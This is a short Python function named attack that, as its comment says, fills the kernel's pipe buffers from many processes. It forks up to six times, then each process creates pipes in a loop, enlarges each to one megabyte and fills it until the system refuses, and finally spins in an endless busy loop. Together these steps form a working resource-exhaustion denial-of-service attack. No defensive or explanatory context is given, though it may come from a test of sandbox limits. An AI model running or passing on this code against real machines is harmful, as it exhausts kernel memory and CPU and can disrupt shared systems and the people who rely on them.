# Fills the kernel's pipe buffers from many processes.
def attack():
    import fcntl
    import posix

    for _ in range(6):
        try:
            if posix.fork() == 0:
                break
        except OSError:
            pass
    while True:
        try:
            reader, writer = posix.pipe()
            fcntl.fcntl(writer, 1031, 1 << 20)
            posix.set_blocking(writer, False)
            posix.write(writer, bytes(1 << 20))
        except OSError:
            break
    while True:
        pass
